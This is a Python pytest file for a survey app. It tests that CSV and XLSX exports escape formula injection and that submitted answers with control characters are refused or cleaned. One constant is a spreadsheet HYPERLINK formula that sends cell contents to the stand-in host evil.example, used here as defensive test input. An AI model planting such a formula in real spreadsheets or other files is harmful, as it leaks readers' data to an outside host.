"""Exports cannot attack their reader (issue 13.1–2): free text never becomes a formula,
control characters never break a wave's workbook and are refused at the API."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from survey_app.models import Response, Role

from .canvass_factories import assignments_of, complete_answers, make_fieldwork, response_payload
from .factories import login, make_user

pytestmark = pytest.mark.db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


@pytest.fixture
def field(session, app, client):
    wave, canvassers = make_fieldwork(session, app)
    login(client, canvassers[0])
    return wave, canvassers[0]


def submit(client, session, me, **answers):
    a = assignments_of(session, me)[len(session.exec(select(Response)).all())]
    payload = response_payload(a.id, answers=complete_answers(**answers))
    return client.post("/api/responses", json=payload)


def as_analyst(client, session):
    client.post("/logout")
    login(client, make_user(session, Role.ANALYST))


def xlsx_cells(client, wave):
    response = client.get(f"/analysis/responses.xlsx?wave={wave.id}")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.data))
    return wb


def csv_rows(client, wave):
    response = client.get(f"/analysis/responses.csv?wave={wave.id}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_free_text_is_never_a_formula(client, session, field, start):
    wave, me = field
    text = FORMULA if start == "=" else start + "SUM(1,2)"
    assert submit(client, session, me, need=text).status_code == 201
    as_analyst(client, session)
    wb = xlsx_cells(client, wave)
    sheet = wb["responses"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("q_need") + 1)
    assert cell.data_type == "s" and cell.value[1:] == text[1:]  # XML reads \r as \n
    notes = " ".join(str(c.value) for row in wb["说明"].iter_rows() for c in row)
    assert "公式" in notes
    rows = csv_rows(client, wave)
    assert rows[0]["q_need"] == "'" + text


def test_plain_text_and_numbers_are_unchanged_in_csv(client, session, field):
    wave, me = field
    assert submit(client, session, me, need="楼道灯坏了").status_code == 201
    as_analyst(client, session)
    row = csv_rows(client, wave)[0]
    assert row["q_need"] == "楼道灯坏了" and row["weight"] == "1"


@pytest.mark.parametrize("char", ["\u000b", "\u0000", "\u001f", "\u007f", "\u0085"])
def test_control_characters_are_refused_naming_the_item(client, session, field, char):
    wave, me = field
    response = submit(client, session, me, need=f"灯{char}坏了")
    assert response.status_code == 422
    assert response.json["item"] == "need"
    assert session.exec(select(Response)).all() == []


def test_newlines_and_tabs_are_kept(client, session, field):
    wave, me = field
    assert submit(client, session, me, need="第一行\n第二行\t完").status_code == 201


def test_older_rows_with_control_characters_still_export(client, session, field, app):
    wave, me = field
    assert submit(client, session, me, need="灯坏了").status_code == 201
    stored = session.exec(select(Response)).one()
    bad = "灯\u000b坏\u0001了"
    if session.get_bind().dialect.name == "sqlite":
        bad += "\u0000"  # PostgreSQL's jsonb cannot hold U+0000 at all
    stored.answers = {**stored.answers, "need": bad}
    session.add(stored)
    session.commit()
    as_analyst(client, session)
    sheet = xlsx_cells(client, wave)["responses"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("q_need") + 1).value == "灯坏了"
    assert csv_rows(client, wave)[0]["q_need"] == "灯坏了"
    for fmt in ("sav", "dta"):
        assert client.get(f"/analysis/responses.{fmt}?wave={wave.id}").status_code == 200
    assert client.get(f"/analysis/codebook.xlsx?wave={wave.id}").status_code == 200
